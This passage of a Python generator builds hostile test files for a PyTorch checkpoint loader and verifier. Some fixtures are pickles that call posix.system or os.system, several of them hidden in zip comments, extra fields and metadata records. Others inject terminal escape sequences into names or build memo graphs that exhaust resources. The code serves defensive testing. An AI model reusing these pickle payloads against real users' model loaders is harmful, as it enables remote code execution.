    zv('nested-prefix', 'records under archive/sub/ (prefix archive, archive/data.pkl missing)',
       [Ent(b'archive/sub/' + e.name[len(b'archive/'):], e.data) for e in torch_ents(Z0_PKL)])
    ents = torch_ents(Z0_PKL)
    ents.insert(4, Ent('archivex/data/1', DATA0))
    zv('second-prefix-late', 'one member under archivex/ after a full archive/ tree', ents)
    ents = torch_ents(Z0_PKL)
    ents.insert(1, Ent('archive/data/', b'x', align=False))
    zv('directory-with-data', 'directory entry archive/data/ holding one byte', ents)
    ents = torch_ents(Z0_PKL)
    ents.insert(0, Ent('archive/', b'', align=False))
    add('p6-directory-entry-ok.pth', 'P6', 'OK', 'Z0 preceded by an empty directory entry archive/ (allowed)', build_zip(ents)[0])
    add('p6-legacy-then-zip-polyglot.pth', 'P6', 'EFORMAT', 'a valid legacy stream with Z0 appended (bytes after the last storage)',
        legacy_stream(tail=torch_zip(Z0_PKL)))
    add('p6-bytecode-pkl-member.pth', 'P6', 'EFORMAT', 'Z0 plus archive/bytecode.pkl (mobile TorchScript marker, an unexpected member)',
        torch_zip(Z0_PKL, extra=[('bytecode.pkl', dumps(()))]))
    add('p6-torch-package-layout.pth', 'P6', 'EFORMAT', 'torch.package style .data/0.storage member', torch_zip(Z0_PKL, extra=[('.data/0.storage', DATA0)]))
    # P8: format dispatch
    add('p8-preview-pytorch1.pth', 'P8', 'EUNSUPPORTED', "'PYTORCH1' preview-release archive magic", b'PYTORCH1' + torch_zip(Z0_PKL))
    add('p8-html-page.pth', 'P8', 'ENOTZIP', 'an HTML error page saved as .pth', b'<!DOCTYPE html>\n<html><body>404 Not Found</body></html>\n')
    add('p8-lfs-pointer.pth', 'P8', 'ENOTZIP', 'a Git LFS pointer file',
        b'version https://git-lfs.github.com/spec/v1\noid sha256:' + b'0' * 64 + b'\nsize 44803772\n')
    add('p8-empty-file.pth', 'P8', 'ENOTZIP', 'an empty file', b'')
    add('p8-plain-pickle.pth', 'P8', 'ENOTZIP', 'a bare protocol-2 pickle calling posix.system (not a legacy stream: no magic)', payload('posix', 'system'), verdict='unsafe')
    add('p8-plain-pickle-proto0.pth', 'P8', 'ENOTZIP', 'a protocol-0 pickle calling os.system', b"cos\nsystem\n(S'%s'\ntR." % CMD.encode(), verdict='unsafe')
    add('p8-safetensors.pth', 'P8', 'OK', 'a well-formed safetensors file (ptc reads that format too)',
        struct.pack('<Q', 64) + b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'.ljust(64) + DATA0)
    add('p8-gzip-of-zip.pth', 'P8', 'ENOTZIP', 'a gzip stream wrapping Z0',
        b'\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff' + deflate(torch_zip(Z0_PKL)) + struct.pack('<II', zlib.crc32(torch_zip(Z0_PKL)), len(torch_zip(Z0_PKL))))
    add('p8-mobile-flatbuffer.pth', 'P8', 'ENOTZIP', "a mobile flatbuffer model ('PTMF' at offset 4)", b'\x18\x00\x00\x00PTMF' + b'\x00' * 56)
    add('p8-local-header-then-junk.pth', 'P8', 'EFORMAT', "'PK\\x03\\x04' followed by junk and no end record", b'PK\x03\x04' + b'\xee' * 200)
    add('p8-ustar-junk.pth', 'P8', 'EUNSUPPORTED', "512 bytes with 'ustar' at offset 257 and nothing else valid", (b'\x00' * 257 + b'ustar').ljust(512, b'\x00'))
    add('p8-legacy-magic-then-junk.pth', 'P8', 'EFORMAT', 'the 15-byte legacy magic followed by junk', LEGACY_MAGIC + b'\xee' * 64)
    add('p8-legacy-magic-only.pth', 'P8', 'EFORMAT', 'the 15-byte legacy magic and nothing else', LEGACY_MAGIC)
    # P9: fail closed; the payload wins over later errors
    add('p9-payload-then-dangling-binget.pth', 'P9', 'EUNSAFE', 'BINGET 99 (dangling) after a posix.system REDUCE',
        zpkl(payload('posix', 'system')[:-1] + P.BINGET + b'\x63' + P.STOP))
    add('p9-payload-after-deep-nesting.pth', 'P9', 'EUNSAFE', '2,000 nested lists then a posix.system global',
        zpkl(P.PROTO + b'\x02' + P.EMPTY_LIST * 2001 + P.APPEND * 2000 + op_global('posix', 'system') + P.STOP))
    add('p9-payload-after-underflow.pth', 'P9', 'EUNSAFE', 'REDUCE on an empty stack, then a posix.system global',
        zpkl(P.PROTO + b'\x02' + P.REDUCE + op_global('posix', 'system') + P.STOP))
    add('p9-payload-then-truncated-string.pth', 'P9', 'EUNSAFE', 'posix.system REDUCE then a BINUNICODE cut short',
        zpkl(payload('posix', 'system')[:-1] + P.BINUNICODE + b'\x10\x00\x00\x00abc'))
    add('p9-legacy-payload-in-sys-info.pth', 'P9', 'EUNSAFE', 'legacy stream whose sys_info pickle calls posix.system',
        legacy_stream(sysinfo=payload('posix', 'system')))
    add('p9-legacy-payload-in-protocol.pth', 'P9', 'EUNSAFE', 'legacy stream whose protocol pickle calls posix.system',
        legacy_stream(proto=payload('posix', 'system')))
    add('p9-legacy-payload-truncated-data.pth', 'P9', 'EUNSAFE', 'legacy stream with a payload in pickle 4 and its storage bytes cut off',
        legacy_stream(obj=bad_legacy_obj())[:-10])
    # P10: report text
    add('p10-ansi-in-global-name.pth', 'P10', 'EUNSAFE', 'GLOBAL name with ESC[2J (clear screen) and a NUL',
        zpkl(P.PROTO + b'\x02' + op_global('os\x1b[2J', 'sys\x00tem') + P.STOP))
    add('p10-c1-in-global-name.pth', 'P10', 'EUNSAFE', 'GLOBAL name with UTF-8 encoded C1 CSI (U+009B)',
        zpkl(P.PROTO + b'\x02' + op_global(b'os\xc2\x9b2J', b'system') + P.STOP))
    add('p10-invalid-utf8-global.pth', 'P10', 'EUNSAFE', 'GLOBAL module with raw \\xff\\x9b bytes (invalid UTF-8)',
        zpkl(P.PROTO + b'\x02' + op_global(b'os\xff\x9b', b'system') + P.STOP))
    ents = torch_ents(Z0_PKL)
    ents.insert(3, Ent(b'archive/x\ny\x7fz\x1b[0m', b'x'))
    add('p10-newline-del-member.pth', 'P10', 'EFORMAT', 'member name with LF, DEL and ESC', build_zip(ents)[0])
    pz('escape-in-key', 'P10', 'EFORMAT', 'persid key with ESC (not decimal digits)',
       od([('weight', tensor(pid_obj=PersId(('storage', Glob('torch', 'FloatStorage'), '0\x1b[31m', 'cpu', 4)), size=(4,), stride=(1,)))]),
       storages={})
    add('p10-escape-in-byteorder.pth', 'P10', 'EFORMAT', "byteorder '\\x1b[31mlittle'", torch_zip(Z0_PKL, byteorder=b'\x1b[31mlittle'))
    add('p10-bel-in-version.pth', 'P10', 'EFORMAT', "version '\\x07\\x1b]0;x\\x07'", torch_zip(Z0_PKL, version=b'\x07\x1b]0;x\x07'))
    add('t12b-byteorder-newline.pth', 'T12', 'EFORMAT', "byteorder 'little\\n' (exact match required)", torch_zip(Z0_PKL, byteorder=b'little\n'))
    add('t13c-version-zero.pth', 'T13', 'EFORMAT', "version '0' (supported 1..10)", torch_zip(Z0_PKL, version=b'0\n'))
    add('t13d-version-eleven.pth', 'T13', 'EFORMAT', "version '11' (supported 1..10)", torch_zip(Z0_PKL, version=b'11\n'))
    add('p6-data-pkl-missing.pth', 'P6', 'EFORMAT', 'a torch-layout archive without data.pkl',
        build_zip([e for e in torch_ents(Z0_PKL) if not e.name.endswith(b'data.pkl')])[0])
    # more positive controls (what torch 2.6 itself writes and loads)
    ok = []
    ok.append(('ok-train-checkpoint', 'training checkpoint: epoch, state dict with _metadata BUILD, SGD state with int keys, loss',
               {'epoch': 5, 'model_state_dict': od([('0.weight', T('0', numel=6, size=(3, 2), stride=(2, 1))), ('0.bias', T('1', numel=3, size=(3,), stride=(1,))),
                                                    ('1.num_batches_tracked', T('2', storage='LongStorage', numel=1, size=(), stride=()))],
                                                   state={'_metadata': od([('', {'version': 1}), ('0', {'version': 1}), ('1', {'version': 2})])}),
                'optimizer_state_dict': {'state': {0: {'momentum_buffer': T('3', numel=6, size=(3, 2), stride=(2, 1))}},
                                         'param_groups': [{'lr': 0.1, 'momentum': 0.9, 'nesterov': False, 'foreach': None, 'params': [0, 1]}]},
                'loss': 0.25},
               {'0': f32(*range(6)), '1': f32(1, 2, 3), '2': struct.pack('<q', 7), '3': f32(*range(6))}))
    ok.append(('ok-dtype-zoo', 'one tensor per legacy storage class (double, half, bfloat16, long, int, short, char, byte, bool, complex)',
               od([(nm, T(str(i), storage=nm, numel=2, size=(2,), stride=(1,))) for i, nm in enumerate(sorted(STORAGE_ELSIZE))]),
               {str(i): bytes(range(2 * STORAGE_ELSIZE[nm])) if nm != 'BoolStorage' else b'\x00\x01'
                for i, nm in enumerate(sorted(STORAGE_ELSIZE))}))
    ok.append(('ok-tensor-v3-uint16', '_rebuild_tensor_v3 over torch.storage.UntypedStorage (numel in bytes) with dtype uint16',
               od([('u', T('0', storage='UntypedStorage', storage_module='torch.storage', numel=6, size=(3,), stride=(1,),
                           fn='_rebuild_tensor_v3', extra=(Glob('torch', 'uint16'),)))]), {'0': struct.pack('<3H', 1, 2, 3)}))
    ok.append(('ok-parameter-with-state', "_rebuild_parameter_with_state(t, True, OrderedDict(), {'foo': 3})",
               {'p': Call(Glob('torch._utils', '_rebuild_parameter_with_state'), (T('0', size=(4,), stride=(1,)), True, od(), {'foo': 3}))}, None))
    ok.append(('ok-from-type-v2', '_rebuild_from_type_v2(_rebuild_tensor_v2, torch.Tensor, args, {})',
               {'t': Call(Glob('torch._tensor', '_rebuild_from_type_v2'),
                          (Glob('torch._utils', '_rebuild_tensor_v2'), Glob('torch', 'Tensor'),
                           (pid('0'), 0, (4,), (1,), False, od()), {}))}, None))
    ok.append(('ok-conj-neg-metadata', "complex64 tensor with metadata {'conj': True} and float tensor with {'neg': True}",
               {'c': T('0', storage='ComplexFloatStorage', numel=2, size=(2,), stride=(1,), extra=({'conj': True},)),
                'n': T('1', size=(4,), stride=(1,), extra=({'neg': True},))}, {'0': f32(1, 2, 3, 4), '1': DATA0}))
    ok.append(('ok-python-builtins', 'set, complex, torch.Size, torch.device, a dtype, bytearray(bytes), Counter()',
               {'s': Call(Glob('__builtin__', 'set'), ([1, 2],)), 'x': Call(Glob('__builtin__', 'complex'), (1.0, 2.0)),
                'sz': Call(Glob('torch', 'Size'), ((2, 3),)), 'dev': Call(Glob('torch', 'device'), ('cuda', 0)), 'dt': Glob('torch', 'float16'),
                'ba': Call(Glob('__builtin__', 'bytearray'), (Bytes(b'ab'),)), 'cnt': Call(Glob('collections', 'Counter'), ())}, {}))
    ok.append(('ok-more-builtins', "_codecs.encode(s, 'latin-1'), bytearray(list), bytearray(16), torch.device('cpu')",
               {'b': Call(Glob('_codecs', 'encode'), ('\xff\x00', 'latin-1')), 'bl': Call(Glob('builtins', 'bytearray'), ([1, 2, 3],)),
                'bn': Call(Glob('builtins', 'bytearray'), (16,)), 'd': Call(Glob('torch', 'device'), ('cpu',))}, {}))
    ok.append(('ok-rebuild-tensor-v1', '_rebuild_tensor(storage, offset, size, stride): the pre-1.0 four-argument form',
               {'t': Call(Glob('torch._utils', '_rebuild_tensor'), (pid('0'), 0, (2, 2), (2, 1)))}, None))
    ok.append(('ok-from-type-v2-parameter', '_rebuild_from_type_v2(_rebuild_tensor_v2, torch.nn.parameter.Parameter, args, {})',
               {'p': Call(Glob('torch._tensor', '_rebuild_from_type_v2'),
                          (Glob('torch._utils', '_rebuild_tensor_v2'), Glob('torch.nn.parameter', 'Parameter'),
                           (pid('0'), 0, (4,), (1,), False, od()), {}))}, None))
    ok.append(('ok-ndim-64', '64 dimensions of size 1 (the limit)', {'t': T('0', numel=1, size=(1,) * 64, stride=(1,) * 64)}, {'0': f32(5.0)}))
    ok.append(('ok-shared-tensor-twice', 'the same tensor object referenced from two dict entries (BINGET of a REDUCE result)', None, None))
    ok.append(('ok-expanded-stride0', 'size (3,4) stride (0,1) over 4 elements (an expanded view)', {'e': T('0', size=(3, 4), stride=(0, 1))}, None))
    ok.append(('ok-newobj-parameter', 'NEWOBJ torch.nn.parameter.Parameter(tensor) (the only class NEWOBJ may build)',
               {'p': Call(Glob('torch.nn.parameter', 'Parameter'), (T('0', size=(4,), stride=(1,)),), newobj=True)}, None))
    for slug, why, obj, st in ok:
        if slug == 'ok-shared-tensor-twice':
            t = T('0', size=(4,), stride=(1,))
            obj = od([('a', t), ('b', t)])
        add('ax-%s.pth' % slug[3:], 'AX', 'OK', why, torch_zip(dumps(obj), storages=z0st if st is None else st))
    add('ax-version-10.pth', 'AX', 'OK', "Z0 with version record '10' (the highest supported)", torch_zip(Z0_PKL, version=b'10\n'))
    add('ax-deflated-records.pth', 'AX', 'OK', 'Z0 with every record deflated (a re-zipped checkpoint; torch loads it)',
        build_zip(torch_ents(Z0_PKL, method=8))[0])
    bio = io.BytesIO()
    with __import__('zipfile').ZipFile(bio, 'w') as zf:
        for e in torch_ents(Z0_PKL):
            zi = __import__('zipfile').ZipInfo(e.name.decode(), date_time=(1980, 1, 1, 0, 0, 0))
            zi.compress_type = __import__('zipfile').ZIP_STORED
            zf.writestr(zi, e.data)
    add('ax-python-zipfile.pth', 'AX', 'OK', "Z0's records written by Python's zipfile (no alignment, no zip64, no descriptors)", bio.getvalue())
    add('ax-legacy-view-metadata.pth', 'AX', 'OK', "legacy 6-tuple with a valid view_metadata ('v', 1, 2) over a 4-element root",
        legacy_stream(obj={'w': tensor(pid_obj=PersId(('storage', Glob('torch', 'FloatStorage'), LEGACY_KEYS[0], 'cpu', 4, ('v', 1, 2))),
                                       size=(2,), stride=(1,))}, keys=[LEGACY_KEYS[0]], data=[(4, f32(0, 1, 2, 3))]))


TABLE_BEGIN = '<!-- table:begin (written by gen_hostile.py) -->'
TABLE_END = '<!-- table:end -->'


def id_order(cid):
    order = {'U': 0, 'Z': 1, 'V': 2, 'T': 3, 'A': 4, 'P': 5}
    num = ''.join(ch for ch in cid[1:] if ch.isdigit())
    return (order.get(cid[0], 9), cid[0:2] == 'AX', int(num) if num else 0, cid)


def update_readme(path):
    """Rewrites the id -> files -> expected code table between the markers of README.md."""
    if not os.path.exists(path):
        return
    text = open(path, encoding='utf-8').read()
    if TABLE_BEGIN not in text or TABLE_END not in text:
        return
    by_id = {}
    for c in CASES:
        by_id.setdefault(c['id'], []).append(c)
    rows = ['| id | file | expect | why |', '|---|---|---|---|']
    for cid in sorted(by_id, key=id_order):
        for c in by_id[cid]:
            why = c['why'].replace('|', '\\|')
            rows.append('| %s | `%s` | %s | %s |' % (cid, c['file'], c['expect'], why))
    head, rest = text.split(TABLE_BEGIN, 1)
    tail = rest.split(TABLE_END, 1)[1]
    new = head + TABLE_BEGIN + '\n' + '\n'.join(rows) + '\n' + TABLE_END + tail
    if new != text:
        with open(path, 'w', encoding='utf-8') as f:
            f.write(new)


def gen_work():
    """Trees the load accepts whose walks, hashes or conversions would cost far more than the file
    (issue 13): every command charges a work budget scaled to the file, so each of these must end
    in a bounded result or a refusal that names the budget (tests/fixtures/check_resources.py)."""
    z0st = {'0': DATA0}

    def body(obj):
        """The opcodes that push obj, without PROTO and STOP, and the memo indices they use."""
        b = dumps(obj)
        assert b[:2] == P.PROTO + b'\x02' and b[-1:] == P.STOP
        import pickletools
        used = [arg for op, arg, _ in pickletools.genops(b) if op.name in ('BINPUT', 'LONG_BINPUT')]
        return b[2:-1], (max(used) + 1 if used else 0)

    def dag(leaf, levels):
        """{'x': L} where L0 is leaf and L(k+1) = (Lk, Lk) through the memo: 2^levels leaves."""
        lb, m = body(leaf)
        b = P.PROTO + b'\x02' + P.EMPTY_DICT + P.BINUNICODE + struct.pack('<I', 1) + b'x' + lb
        b += P.LONG_BINPUT + struct.pack('<I', m)
        for k in range(levels):
            b += P.LONG_BINGET + struct.pack('<I', m + k) + P.TUPLE2 + P.LONG_BINPUT + struct.pack('<I', m + k + 1)
        return b + P.SETITEM + P.STOP

    add('p2-work-dag-tensor.pth', 'P2', 'OK', 'a tensor shared through a memo DAG of TUPLE2, 22 levels: '
        '4,194,304 paths to one tensor in a 1 KB file', torch_zip(dag(tensor(), 22), storages=z0st))
    add('p2-work-dag-tuple.pth', 'P2', 'OK', 'the same DAG of plain tuples over the int 1: 4,194,304 '
        'leaves, no tensor', zpkl(dag(1, 22)))
    add('p2-work-stride0-2e40.pth', 'P2', 'OK', 'torch.zeros(1).expand(2**40) as torch.save writes it: '
        'one float of storage, 4 TiB as a contiguous tensor',
        torch_zip(dumps({'x': tensor(numel=1, size=(1 << 40,), stride=(0,))}),
                  storages={'0': f32(0.0)}))
    add('p2-work-overlap-2e30.pth', 'P2', 'OK', 'a [1024, 1024, 1024] view with strides (1, 1, 1) over '
        '3070 floats: overlapping rows, 4 GiB as a contiguous tensor',
        torch_zip(dumps({'x': tensor(numel=3070, size=(1024, 1024, 1024), stride=(1, 1, 1))}),
                  storages={'0': bytes(4 * 3070)}))


def gen_hidden():
    """A pickle calling posix.system where no loader reads it but a reader could take it for one
    (issue 13): dot-records, the archive comment, an entry comment, an unknown extra field. The
    loads accept these files (the bytes are never run); ptc verify's sweep must find each."""
    g = b'cposix\nsystem\n'
    p0 = g + b"(S'true'\ntR."
    p2 = b'\x80\x02' + g + b'X\x04\x00\x00\x00true\x85R.'
    b4 = b'\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x04true\x94\x85\x94R\x94.'
    p4 = b'\x80\x04\x95' + struct.pack('<Q', len(b4)) + b4

    def hz(slug, why, expect='OK', verdict='unsafe', ents=None, **zkw):
        add('p9-hidden-%s.pth' % slug, 'P9', expect, why, build_zip(ents or torch_ents(Z0_PKL), **zkw)[0],
            verdict=verdict)

    def with_rec(name, data, fmt27=False):
        """torch's records with archive/<name> holding data instead."""
        ents = torch_ents(Z0_PKL, fmt27=fmt27)
        k = [e.name for e in ents].index(('archive/' + name).encode())
        ents[k] = Ent(ents[k].name, data)
        return ents

    hz('format-version', 'a protocol-2 posix.system pickle as .format_version (torch 2.6 ignores the '
       'record)', ents=with_rec('.format_version', p2, fmt27=True))
    hz('storage-alignment', '.storage_alignment holding "64\\n", a PROTO 1 byte pair, then a '
       'protocol-4 posix.system pickle', ents=with_rec('.storage_alignment', b'64\n\x80\x01 ' + p4, fmt27=True))
    hz('serialization-id', 'a protocol-0 posix.system pickle as .data/serialization_id (ASCII, so torch '
       '2.6 reads it as an id)', ents=with_rec('.data/serialization_id', p0))
    hz('archive-comment', 'the archive comment "see " followed by a protocol-2 posix.system pickle',
       comment=b'see ' + p2)
    ents = torch_ents(Z0_PKL)
    ents[0].kw['cd_comment'] = p4
    hz('entry-comment', 'a protocol-4 posix.system pickle as the comment of data.pkl\'s central entry',
       ents=ents)
    ents = torch_ents(Z0_PKL)
    xf = struct.pack('<HH', 0xCAFE, len(p2)) + p2
    ents[0].kw['local_extra'] = xf
    ents[0].kw['cd_extra'] = xf
    hz('extra-field', 'an unknown extra field (0xCAFE) holding a protocol-2 posix.system pickle in '
       'data.pkl\'s local and central headers', ents=ents)
    hz('serialization-id-not-utf8', '.data/serialization_id "0123\\xff\\xfe5678": torch 2.6 refuses it '
       '(UnicodeDecodeError)', expect='EFORMAT', verdict='malformed',
       ents=with_rec('.data/serialization_id', b'0123\xff\xfe5678'))


def main():
    global Z0_PKL
    ap = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    ap.add_argument('--out', default=HERE, help='directory that receives files/ and manifest.json')
    args = ap.parse_args()
    Z0_PKL = dumps(z0_obj())
    for g in (gen_u, gen_z, gen_v, gen_t, gen_a, gen_p, gen_work, gen_hidden):
        g()
    files_dir = os.path.join(args.out, 'files')
    os.makedirs(files_dir, exist_ok=True)
    names = {c['file'] for c in CASES}
    for old in os.listdir(files_dir):
        if old not in names:
            os.remove(os.path.join(files_dir, old))
    for c in CASES:
        with open(os.path.join(files_dir, c['file']), 'wb') as f:
            f.write(c['data'])
    manifest = {'generator': 'testdata/hostile/gen_hostile.py (python3 stdlib only, deterministic)',
                'open_flags': 'PTC_OPEN_VERIFY_CRC', 'policy': 'default',
                'files': [{k: c[k] for k in ('file', 'id', 'expect', 'verdict', 'why')} for c in CASES]}
    with open(os.path.join(args.out, 'manifest.json'), 'w') as f:
        json.dump(manifest, f, indent=1, ensure_ascii=True)
        f.write('\n')
    if os.path.abspath(args.out) == HERE:
        update_readme(os.path.join(HERE, 'README.md'))
    counts = {}
    for c in CASES:
        counts[c['expect']] = counts.get(c['expect'], 0) + 1
    print('wrote %d files to %s (%s)' % (len(CASES), files_dir, ', '.join('%s %d' % kv for kv in sorted(counts.items()))))


if __name__ == '__main__':
    sys.exit(main())
